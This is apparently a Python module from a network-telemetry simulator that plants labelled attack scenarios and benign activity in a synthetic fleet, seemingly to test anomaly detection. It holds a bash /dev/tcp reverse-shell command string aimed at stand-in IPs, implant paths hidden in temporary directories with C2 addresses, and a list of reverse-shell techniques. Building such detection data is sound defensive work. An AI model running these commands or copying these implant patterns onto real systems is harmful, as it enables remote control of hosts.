"""Scenario families (`rarenet simulate --scenarios all`), each one labelled or named.

Labelled (malicious, labels' "family"):

* spread: an implant in a hidden, writable directory copied host to host — 2 to 5
  hosts across roles, hops of 20 minutes to 3 hours, one C2 address;
* repeat: an attack tool of the classic set used again on another host 1 to 3 days
  later (a second intrusion, or the same operator moving on);
* child-shell: `bash -c 'exec 3<>/dev/tcp/…; sleep 600'` from a web or database
  foothold: the socket is reported for the child `sleep`, whose parent is bash;
* returning: an attacker back on the same host with the same tool 1 to 7 days after a
  first visit (persistence, a second session, a beacon that wakes up again): a
  hidden-directory dropper or masquerade, a system binary (nc, socat, perl, gawk,
  openssl, telnet) and the bash web shell where the run allows each.

Benign (no labels; docs/quality.md counts their signals):

* rollout: a package (ROLLOUT_PACKAGES) reaching 30–100 % of the hosts in 3 to 5
  waves within 20 hours, then running as a daemon;
* weekly: a new weekly job (WEEKLY_JOBS) starting on several hosts at the same moment;
* user-app: an app developers install on their workstations (USER_APPS: a package in
  /opt, or into a home directory), each on its own day over four days mid-run, used in
  office hours, talking to its vendor;
* scheduled: a job on a calendar (SCHEDULED_JOBS: weekly, monthly, quarterly) reaching
  the hosts of some roles one by one over the run's first weeks, each host at its own
  weekday or day of the month and hour (a backup, a log archive, a certificate renewal);
* re-imaged hosts (fleet.build_fleet): a host vanishes and a new host id of the same
  role takes over; user-installed tools come with every run (fleet.ToolInstall).
"""

from __future__ import annotations

import random
from collections import defaultdict
from collections.abc import Sequence
from dataclasses import dataclass, field, replace

from rarenet.baseline.simulate.attacks import (
    FOOTHOLD,
    AttackPlan,
    Technique,
    attack_window,
    place,
    replace_plan,
)
from rarenet.baseline.simulate.catalogue import (
    PROGRAMS,
    ROLLOUT_PACKAGES,
    SCHEDULED_JOBS,
    UPGRADES,
    USER_APPS,
    WEEKLY_JOBS,
    Program,
)
from rarenet.baseline.simulate.fleet import Fleet, Host
from rarenet.baseline.simulate.roles import FIXED, OFFICE, PERIODIC, RATE, ActivitySpec

HOUR, DAY = 3600, 86400
WEEK = 7 * DAY
BEACON_OFFSETS = tuple(range(0, 5400, 600))  # every 10 minutes for 1.5 hours
_IMPLANTS = (
    ("kdevtmpfsi", "/var/tmp/.font-unix/kdevtmpfsi", "203.0.113.66", 8080),
    ("dbus-launch", "/dev/shm/.x11/dbus-launch", "198.51.100.77", 443),
    ("kswapd0", "/tmp/.ICE-unix/.k/kswapd0", "203.0.113.31", 53),
)
_SPREAD_FLAVORS = ("web", "db", "ci", "cache", "k8s", "bastion", "queue", "mail", "dev")
# Returns, one of each kind where the run allows: a dropper or masquerade in a volatile
# or hidden place, a system binary that never talks here, and the bash web shell.
_RETURNING = (
    ("tmp-beacon", "masquerade-shm-sshd", "masquerade-path-curl", "masquerade-shm-kworker"),
    (
        "reverse-shell-nc",
        "reverse-shell-socat",
        "reverse-shell-perl",
        "reverse-shell-awk",
        "reverse-shell-openssl",
        "telnet-c2",
    ),
    ("reverse-shell-bash",),
)
RETURN_QUIET = DAY  # a return comes at least a quiet day after the first visit ends …
RETURN_LATEST = 7 * DAY  # … and at most a week after it
_REPEATABLE = (
    "reverse-shell-nc",
    "reverse-shell-socat",
    "reverse-shell-perl",
    "reverse-shell-openssl",
    "tmp-beacon",
    "masquerade-shm-sshd",
    "masquerade-path-curl",
)


@dataclass
class Scenarios:
    """What `--scenarios all` adds to a run: labelled plans and benign activities."""

    plans: list[AttackPlan] = field(default_factory=list)
    extras: dict[int, list[tuple[ActivitySpec, int]]] = field(
        default_factory=lambda: defaultdict(list)
    )


def plan_scenarios(fleet: Fleet, seed: int, classic: Sequence[AttackPlan]) -> Scenarios:
    """Every family, deterministically from the seed, avoiding the classic plans' hosts."""
    rng = random.Random(f"rarenet-simulate:{seed}:families")
    founders = [h for h in fleet.hosts if h.join <= fleet.start and h.leave > fleet.end]
    used = {plan.host for plan in classic}
    out = Scenarios()
    earliest, latest = attack_window(fleet)
    for number, implant in enumerate(_IMPLANTS[: 2 if len(founders) < 60 else 3]):
        start = int(rng.uniform(earliest, max(earliest, latest - 5 * 3 * HOUR)))
        out.plans += _spread(number, implant, founders, used, start, latest, rng)
    out.plans += _repeats(classic, founders, used, latest, rng)
    out.plans += _returns(classic, latest, rng)
    for number in range(2):
        start = int(rng.uniform(earliest, latest))
        plan = _child_shell(number, founders, used, start, rng)
        if plan is not None:
            out.plans.append(plan)
    _rollouts(fleet, founders, rng, out)
    _weekly_jobs(fleet, founders, rng, out)
    _scheduled_jobs(fleet, founders, rng, out)
    _user_apps(fleet, rng, out)
    out.plans.sort(key=lambda plan: plan.start)
    return out


def _free_host(
    founders: Sequence[Host], used: set[int], flavors: Sequence[str], rng: random.Random
) -> Host | None:
    for flavor in flavors:
        pool = [h for h in founders if h.flavor == flavor and h.index not in used]
        if pool:
            host = rng.choice(pool)
            used.add(host.index)
            return host
    return None


def _spread(
    number: int,
    implant: tuple[str, str, str, int],
    founders: Sequence[Host],
    used: set[int],
    start: int,
    latest: int,
    rng: random.Random,
) -> list[AttackPlan]:
    name, path, remote, port = implant
    hops = rng.randint(2, 5)
    flavors = rng.sample(_SPREAD_FLAVORS, len(_SPREAD_FLAVORS))
    tech = Technique(
        f"spread-{number + 1}",
        Program(name, path, f"{path} -c /tmp/.cfg", FOOTHOLD, FOOTHOLD, cwd="/tmp"),
        remote,
        port,
        BEACON_OFFSETS,
        False,
        (),
        (),
        f"implant {path} copied host to host ({hops} hosts), beaconing to {remote}:{port}",
        "spread",
    )
    plans, at = [], start
    for hop in range(hops):
        host = _free_host(founders, used, flavors[hop:] + flavors[:hop], rng)
        if host is None or at > latest:
            break
        plans.append(place(tech, host, at))
        at += int(rng.uniform(20 * 60, 3 * HOUR))
    return plans


def _repeats(
    classic: Sequence[AttackPlan],
    founders: Sequence[Host],
    used: set[int],
    latest: int,
    rng: random.Random,
) -> list[AttackPlan]:
    candidates = [
        p for p in classic if p.technique.id in _REPEATABLE and p.start + DAY + HOUR <= latest
    ]
    plans = []
    for first in rng.sample(candidates, min(3, len(candidates))):
        tech = first.technique
        again = Technique(
            f"{tech.id}-again",
            tech.program,
            tech.remote,
            tech.port,
            tech.offsets,
            tech.respawn,
            tech.prefer,
            tech.avoid,
            f"{tech.description}, again on another host days later",
            "repeat",
        )
        allowed = [h for h in founders if h.role not in tech.avoid]
        host = _free_host(allowed, used, [h.flavor for h in rng.sample(allowed, len(allowed))], rng)
        if host is None:
            continue
        start = int(rng.uniform(first.start + DAY, min(first.start + 3 * DAY, latest)))
        plans.append(place(again, host, start))
    return plans


def _returns(classic: Sequence[AttackPlan], latest: int, rng: random.Random) -> list[AttackPlan]:
    """The same technique back on the same host, after a quiet day or more."""
    plans = []
    for kinds in _RETURNING:
        firsts = [
            p for p in classic if p.technique.id in kinds and p.label.end + RETURN_QUIET < latest
        ]
        if not firsts:
            continue
        first = rng.choice(firsts)
        tech = replace(
            first.technique,
            id=f"{first.technique.id}-returning",
            description=f"{first.technique.description}, back on the same host days later",
            family="returning",
        )
        low = first.label.end + RETURN_QUIET + 900
        start = int(rng.uniform(low, max(low, min(first.label.end + RETURN_LATEST, latest))))
        plans.append(replace_plan(first, tech, start))
    return plans


def _child_shell(
    number: int, founders: Sequence[Host], used: set[int], start: int, rng: random.Random
) -> AttackPlan | None:
    remote, port = ("203.0.113.50", 4444) if number == 0 else ("198.51.100.23", 9001)
    command = f"bash -c exec 3<>/dev/tcp/{remote}/{port}; sleep 600"
    tech = Technique(
        f"child-shell-{number + 1}",
        Program("sleep", "/usr/bin/sleep", "sleep 600", FOOTHOLD, FOOTHOLD, cwd="/tmp"),
        remote,
        port,
        (0, 900),
        True,
        (),
        (),
        f"bash reverse shell whose child sleep holds the socket: {command}",
        "child-shell",
        Program("bash", "/usr/bin/bash", command, FOOTHOLD, FOOTHOLD, cwd="/tmp"),
    )
    host = _free_host(founders, used, ("web", "db", "ci", "cache"), rng)
    return place(tech, host, start) if host is not None else None


def _rollouts(fleet: Fleet, founders: Sequence[Host], rng: random.Random, out: Scenarios) -> None:
    period = fleet.end - fleet.start
    for key in rng.sample(sorted(ROLLOUT_PACKAGES), 2):
        share = rng.uniform(0.3, 1.0)
        reached = rng.sample(founders, max(2, round(share * len(founders))))
        begin = fleet.start + int(rng.uniform(0.25, 0.6) * period)
        waves = rng.randint(3, 5)
        times = sorted(begin + int(rng.uniform(0, 20 * HOUR)) for _ in range(waves - 1))
        spec = ActivitySpec((f"rollout:{key}",), PERIODIC, 900.0, open_at_start=True)
        for i, host in enumerate(reached):
            wave_start = begin if i % waves == 0 else times[i % waves - 1]
            out.extras[host.index].append((spec, wave_start + rng.randrange(600)))


def _weekly_jobs(
    fleet: Fleet, founders: Sequence[Host], rng: random.Random, out: Scenarios
) -> None:
    period = fleet.end - fleet.start
    for key in sorted(WEEKLY_JOBS):
        count = min(len(founders), max(3, len(founders) // 10))
        at = fleet.start + int(rng.uniform(0.3, 0.5) * period) // HOUR * HOUR
        spec = ActivitySpec((f"weekly:{key}",), FIXED, float(WEEK))
        for host in rng.sample(founders, count):
            out.extras[host.index].append((spec, at))


def _scheduled_jobs(
    fleet: Fleet, founders: Sequence[Host], rng: random.Random, out: Scenarios
) -> None:
    period = fleet.end - fleet.start
    for key, (_program, _flow, kind, flavors) in sorted(SCHEDULED_JOBS.items()):
        hosts = [host for host in founders if host.flavor in flavors]
        spec = ActivitySpec((f"scheduled:{key}",), kind, window=(0.0, 6.0))
        for host in rng.sample(hosts, min(len(hosts), 6)):
            # installed on each host on its own day within the run's first quarter
            begin = fleet.start + int(rng.uniform(0.0, 0.25) * period)
            out.extras[host.index].append((spec, begin))


def _user_apps(fleet: Fleet, rng: random.Random, out: Scenarios) -> None:
    period = fleet.end - fleet.start
    workstations = [h for h in fleet.hosts if h.role == "dev" and h.leave > fleet.end]
    for key in sorted(USER_APPS):
        if len(workstations) < 2:
            return
        begin = fleet.start + int(rng.uniform(0.3, 0.5) * period)
        spec = ActivitySpec((f"app:{key}",), RATE, 5400.0, OFFICE, open_at_start=True)
        for host in rng.sample(workstations, min(len(workstations), rng.randint(2, 5))):
            out.extras[host.index].append((spec, max(host.join, begin + rng.randrange(4 * DAY))))


def benign_paths() -> dict[str, str]:
    """Executable path → family of the benign scenario programs: rollout (the packages
    above, the classic run's agent rollout and JDK upgrade), weekly or scheduled."""
    paths = {program.path: "rollout" for program, _ in ROLLOUT_PACKAGES.values()}
    for key in ("acme-agent", UPGRADES["java17"]):
        paths[PROGRAMS[key].path] = "rollout"
    paths |= {program.path: "weekly" for program, _ in WEEKLY_JOBS.values()}
    paths |= {program.path: "user-app" for program, _ in USER_APPS.values()}
    return paths | {job[0].path: "scheduled" for job in SCHEDULED_JOBS.values()}
